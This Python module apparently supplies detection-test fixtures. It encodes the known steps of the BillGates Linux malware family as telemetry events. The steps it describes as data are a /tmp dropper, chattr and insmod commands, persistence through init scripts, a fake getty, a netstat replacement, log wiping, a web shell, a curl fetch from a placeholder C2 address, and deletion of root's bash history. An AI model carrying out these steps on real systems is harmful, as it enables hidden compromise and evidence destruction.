"""Steps of attacks that are known, as events: what no suppression may hide.

The family's steps are those that `redshank simulate` plays; facts from its public descriptions. Paths and addresses are
what the family uses or what is kept for documentation.
"""

from dataclasses import dataclass
from typing import Any

from redshank.events import Event
from redshank.events.codec import from_flat

BASE_NS = 1_763_958_000 * 10**9
_ROOT = {"user.name": "root", "user.id": 0}


@dataclass(frozen=True, slots=True)
class Step:
    """One step. flats: its events as flat keys, without time and id."""

    attack: str
    name: str
    flats: tuple[dict[str, Any], ...]

    def events(self) -> tuple[Event, ...]:
        """The step's events, a second apart."""
        return tuple(
            from_flat({"@timestamp": BASE_NS + place * 10**9, "event.id": f"step-{place}", "host.id": "h-step"} | flat)
            for place, flat in enumerate(self.flats)
        )


def _started(executable: str, *args: str, parent: str = "/bin/bash", **more: Any) -> dict[str, Any]:
    words = (executable, *args)
    return {
        "event.action": "process.exec",
        "process.executable": executable,
        "process.name": executable.rpartition("/")[2],
        "process.args": list(words),
        "process.command_line": " ".join(words),
        "process.parent.executable": parent,
        "process.parent.name": parent.rpartition("/")[2],
        **_ROOT,
        **more,
    }


def _file(action: str, path: str, executable: str, **more: Any) -> dict[str, Any]:
    return {
        "event.action": action,
        "file.path": path,
        "file.name": path.rpartition("/")[2],
        "process.executable": executable,
        "process.name": executable.rpartition("/")[2],
        **_ROOT,
        **more,
    }


def _connect(executable: str, ip: str, port: int) -> dict[str, Any]:
    return {
        "event.action": "net.connect",
        "process.executable": executable,
        "process.name": executable.rpartition("/")[2],
        "destination.ip": ip,
        "destination.port": port,
        **_ROOT,
    }


_WEB = {"user.name": "www-data", "user.id": 33}
_DROPPER = "/tmp/breeb"  # noqa: S108  a name in an event
STEPS = (
    Step("billgates", "a dropper in /tmp is run by root", (_started(_DROPPER),)),
    Step("billgates", "the dropper is made unchangeable", (_started("/usr/bin/chattr", "+i", _DROPPER),)),
    Step("billgates", "a kernel module is loaded", (_started("/usr/sbin/insmod", "/usr/lib/xpacket.ko"),)),
    Step("billgates", "an init script is written", (_file("file.create", "/etc/init.d/DbSecuritySpt", _DROPPER),)),
    Step("billgates", "a false getty is put in place", (_file("file.create", "/usr/bin/bsd-port/getty", _DROPPER),)),
    Step("billgates", "a system tool is replaced", (_file("file.modify", "/bin/netstat", "/usr/bin/cp"),)),
    Step("billgates", "rc.local is edited", (_file("file.modify", "/etc/rc.local", "/bin/bash"),)),
    Step(
        "billgates",
        "a log becomes a link to nothing",
        (_file("file.create", "/var/log/wtmp", _DROPPER, **{"file.target_path": "/dev/null", "file.type": "symlink"}),),
    ),
    Step("billgates", "the false getty calls home", (_connect("/usr/bin/bsd-port/getty", "203.0.113.9", 36000),)),
    Step("billgates", "a web page runs a shell", (_started("/bin/sh", "-c", "id", parent="/usr/sbin/apache2", **_WEB),)),
    Step("billgates", "the web shell fetches a file", (_started("/usr/bin/curl", "-s", "http://203.0.113.9/x", parent="/bin/sh", **_WEB),)),
    Step("billgates", "the history is cleared", (_started("/usr/bin/rm", "-f", "/root/.bash_history"),)),
)
"""Every step, in the order it is done."""
